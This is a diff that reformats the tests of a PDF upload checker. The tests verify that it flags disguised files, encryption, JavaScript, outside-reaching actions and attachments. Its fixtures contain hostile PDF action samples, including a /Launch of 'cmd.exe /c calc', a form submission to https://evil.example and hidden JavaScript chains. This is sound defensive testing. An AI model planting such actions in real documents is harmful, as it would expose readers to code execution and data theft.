@@ -44,6 +44,7 @@ def with_annotation(annotation: bytes, *objects: bytes) -> bytes:
 
 # --- passes -------------------------------------------------------------------------------
 
+
 def test_clean_fpdf2_pdf_passes() -> None:
     # fpdf2 writes /OpenAction [page /FitH null]: a destination, not an action, so it passes.
     data = clean_pdf()
@@ -62,21 +63,27 @@ def test_hand_written_minimal_pdf_passes() -> None:
 
 
 def test_internal_goto_and_named_actions_pass() -> None:
-    data = with_annotation(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>",
-                           b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /NextPage >> >>")
+    data = with_annotation(
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>",
+        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /NextPage >> >>",
+    )
     assert check_pdf(data) == []
 
 
 # --- PDF001: disguised files --------------------------------------------------------------
 
-@pytest.mark.parametrize(("data", "kind"), [
-    (PNG, "PNG image"),
-    (zip_archive(), "ZIP archive"),
-    (b"<!DOCTYPE html><html><body>report</body></html>", "HTML"),
-    (b"MZ\x90\x00" + bytes(60), "Windows program"),
-    (b"", "empty"),
-    (b"\n%PDF-1.7\n" + clean_pdf()[9:], "not at byte 0"),
-])
+
+@pytest.mark.parametrize(
+    ("data", "kind"),
+    [
+        (PNG, "PNG image"),
+        (zip_archive(), "ZIP archive"),
+        (b"<!DOCTYPE html><html><body>report</body></html>", "HTML"),
+        (b"MZ\x90\x00" + bytes(60), "Windows program"),
+        (b"", "empty"),
+        (b"\n%PDF-1.7\n" + clean_pdf()[9:], "not at byte 0"),
+    ],
+)
 def test_disguised_file_is_pdf001_only(data: bytes, kind: str) -> None:
     problems = check_pdf(data)
     assert [p.code for p in problems] == ["PDF001"]
@@ -84,6 +91,7 @@ def test_disguised_file_is_pdf001_only(data: bytes, kind: str) -> None:
 
 
 # --- PDF002: not parseable, or no pages ---------------------------------------------------
+
 
 def test_random_bytes_after_header_are_pdf002() -> None:
     junk = random.Random(7).randbytes(4096)
@@ -142,7 +150,8 @@ def test_too_many_objects_is_pdf002(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 def test_object_streams_beyond_the_inflate_budget_are_pdf002(
-        monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     monkeypatch.setattr(pdfcheck, "MAX_INFLATED", 1000)
     assert codes(raw_pdf(object_stream({9: b"(" + b"x" * 2000 + b")"}))) == ["PDF002"]
 
@@ -170,6 +179,7 @@ def test_xref_pointing_at_wrong_objects_is_repaired_in_one_pass() -> None:
 
 # --- PDF003: encrypted --------------------------------------------------------------------
 
+
 @pytest.mark.parametrize(("user", "owner"), [("secret", None), ("", "owner-only")])
 def test_encrypted_pdf_is_pdf003(user: str, owner: str | None) -> None:
     # The second case opens without a password (restrictions only): still encrypted.
@@ -182,13 +192,16 @@ def test_encrypted_pdf_is_pdf003(user: str, owner: str | None) -> None:
 def test_aes256_encrypted_pdf_is_pdf003_without_crypto_package() -> None:
     # Without `cryptography` pypdf cannot open AES-256 files at all (DependencyError); the
     # applicant must still hear "encrypted", not "cannot be read".
-    encrypt = (b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <%s> /U <%s> "
-               b"/OE <%s> /UE <%s> /Perms <%s> >> " % (
-                   b"11" * 48, b"22" * 48, b"33" * 32, b"44" * 32, b"55" * 16))
+    encrypt = (
+        b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <%s> /U <%s> "
+        b"/OE <%s> /UE <%s> /Perms <%s> >> "
+        % (b"11" * 48, b"22" * 48, b"33" * 32, b"44" * 32, b"55" * 16)
+    )
     assert codes(raw_pdf(trailer=encrypt)) == ["PDF003"]
 
 
 # --- PDF004: JavaScript -------------------------------------------------------------------
+
 
 def test_document_level_javascript_is_pdf004() -> None:
     data = rewrite(clean_pdf(), lambda w: w.add_open_action(JavaScript("app.alert(1)")))
@@ -212,20 +225,33 @@ def test_javascript_in_page_additional_actions_is_pdf004() -> None:
 
 
 def test_javascript_in_form_field_is_pdf004() -> None:
-    field = (b"<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
-             b"/AA << /K 5 0 R >> >>")
-    data = raw_pdf(field, JS_ACTION, catalog=b"<< /Type /Catalog /Pages 2 0 R "
-                   b"/AcroForm << /Fields [4 0 R] >> >>")
+    field = (
+        b"<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /K 5 0 R >> >>"
+    )
+    data = raw_pdf(
+        field,
+        JS_ACTION,
+        catalog=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
+    )
     assert codes(data) == ["PDF004"]
 
 
 def test_javascript_added_with_pypdf_dictionaries_is_pdf004() -> None:
     def add(writer) -> None:
-        action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
-                                   NameObject("/JS"): TextStringObject("app.alert(1)")})
-        annotation = DictionaryObject({
-            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
-            NameObject("/Rect"): ArrayObject([]), NameObject("/A"): writer._add_object(action)})
+        action = DictionaryObject(
+            {
+                NameObject("/S"): NameObject("/JavaScript"),
+                NameObject("/JS"): TextStringObject("app.alert(1)"),
+            }
+        )
+        annotation = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/Rect"): ArrayObject([]),
+                NameObject("/A"): writer._add_object(action),
+            }
+        )
         writer.add_annotation(0, annotation)
 
     assert codes(rewrite(clean_pdf(), add)) == ["PDF004"]
@@ -237,15 +263,21 @@ def test_hex_escaped_names_are_decoded() -> None:
 
 
 def test_javascript_behind_a_next_chain_is_pdf004() -> None:
-    data = with_catalog(b"/OpenAction 4 0 R", b"<< /S /URI /URI (https://gov.kz) /Next [5 0 R] >>",
-                        b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", JS_ACTION)
+    data = with_catalog(
+        b"/OpenAction 4 0 R",
+        b"<< /S /URI /URI (https://gov.kz) /Next [5 0 R] >>",
+        b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
+        JS_ACTION,
+    )
     assert codes(data) == ["PDF004"]
 
 
 def test_cyclic_next_chain_terminates_and_reports_javascript() -> None:
-    data = with_catalog(b"/OpenAction 4 0 R",
-                        b"<< /S /URI /URI (https://gov.kz) /Next 5 0 R >>",
-                        b"<< /S /JavaScript /JS (app.alert(1)) /Next 4 0 R >>")
+    data = with_catalog(
+        b"/OpenAction 4 0 R",
+        b"<< /S /URI /URI (https://gov.kz) /Next 5 0 R >>",
+        b"<< /S /JavaScript /JS (app.alert(1)) /Next 4 0 R >>",
+    )
     problems = check_pdf(data)
     assert [p.code for p in problems] == ["PDF004"]
     assert "/JS" in problems[0].message or "/JavaScript" in problems[0].message
@@ -263,8 +295,9 @@ def test_javascript_outside_the_xref_is_pdf004() -> None:
 def test_javascript_removed_by_incremental_update_is_still_pdf004() -> None:
     # An editor "removes" a script by appending a new revision; the old one stays in the
     # file, and viewers can show earlier revisions, so the published bytes still carry it.
-    data = incremental_update(with_catalog(b"/OpenAction 4 0 R", JS_ACTION), 4,
-                              b"<< /S /URI /URI (https://gov.kz) >>")
+    data = incremental_update(
+        with_catalog(b"/OpenAction 4 0 R", JS_ACTION), 4, b"<< /S /URI /URI (https://gov.kz) >>"
+    )
     assert PdfReader(BytesIO(data)).get_object(4)["/S"] == "/URI"
     assert codes(data) == ["PDF004"]
 
@@ -276,13 +309,17 @@ def test_javascript_inside_an_object_stream_is_pdf004() -> None:
 
 # --- PDF005: actions that reach outside ---------------------------------------------------
 
-@pytest.mark.parametrize("action", [
-    b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
-    b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>",
-    b"<< /S /ImportData /F (data.fdf) >>",
-    b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
-    b"<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>",
-])
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
+        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>",
+        b"<< /S /ImportData /F (data.fdf) >>",
+        b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
+        b"<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>",
+    ],
+)
 def test_outside_actions_are_pdf005(action: bytes) -> None:
     assert codes(with_catalog(b"/OpenAction 4 0 R", action)) == ["PDF005"]
 
@@ -293,6 +330,7 @@ def test_launch_in_link_annotation_is_pdf005() -> None:
 
 
 # --- PDF006: embedded content -------------------------------------------------------------
+
 
 def test_attachment_is_pdf006() -> None:
     data = rewrite(clean_pdf(), lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00"))
@@ -317,16 +355,20 @@ def test_xfa_form_is_pdf006() -> None:
 
 
 def test_every_problem_is_reported_together() -> None:
-    data = with_catalog(b"/OpenAction 4 0 R /Names << /EmbeddedFiles << /Names [] >> >>",
-                        b"<< /S /JavaScript /JS (x) /Next << /S /Launch /F (a.exe) >> >>")
+    data = with_catalog(
+        b"/OpenAction 4 0 R /Names << /EmbeddedFiles << /Names [] >> >>",
+        b"<< /S /JavaScript /JS (x) /Next << /S /Launch /F (a.exe) >> >>",
+    )
     assert codes(data) == ["PDF004", "PDF005", "PDF006"]
 
 
 # --- the module's contract ----------------------------------------------------------------
 
+
 def test_rules_match_the_registry_rule_table() -> None:
-    assert {code: text for code, text in rules.RULES.items()
-                              if code.startswith("PDF")} == pdfcheck.RULES
+    assert {
+        code: text for code, text in rules.RULES.items() if code.startswith("PDF")
+    } == pdfcheck.RULES
 
 
 def test_messages_are_one_plain_line() -> None:
